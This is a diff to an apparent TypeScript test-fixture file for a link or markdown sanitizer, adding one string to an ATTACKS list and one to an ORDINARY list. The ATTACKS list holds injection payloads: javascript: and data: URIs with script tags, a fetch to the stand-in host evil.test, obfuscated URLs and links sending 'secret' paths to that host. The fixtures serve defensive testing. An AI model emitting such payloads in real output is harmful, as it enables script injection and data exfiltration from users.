@@ -110,6 +110,7 @@ export const ATTACKS: string[] = [
   '[click](java&#115;cript:fetch(1))',
   '[click](data:text/html,<script>1</script>)',
   '[click](data:/text/html,<script>fetch("https://evil.test/d")</script>)',
+  'Go to http://"evil.test/q or http://​evil.test/q or https://\\evil.test/q.',
   'Connect to redis://evil.test:6379/secret or [here](wss://evil.test/secret).',
   '[click][r]\n\n[r]: https://evil.test/l15',
   '[r]\n\n[r]:https://evil.test/l16',
@@ -150,6 +151,7 @@ export const ORDINARY: string[] = [
   'If a < b and b > c then x[i] is 5 <= 6; use `Map<string, number>` and <b>bold</b>.',
   'Grüße 👩‍👩‍👧 ❤️‍🔥 1️⃣ می‌خواهم',
   'Run `docker run -v $PWD/data:/data -v data:/var/lib/data` with redis://cache.internal:6379/0.',
+  'Set {"http://": a, "https://": b} or `ws://`.',
   'Note: the answer is "yes": [1] see above... and so on; and/or: C:\\folder\\file',
 ]
 
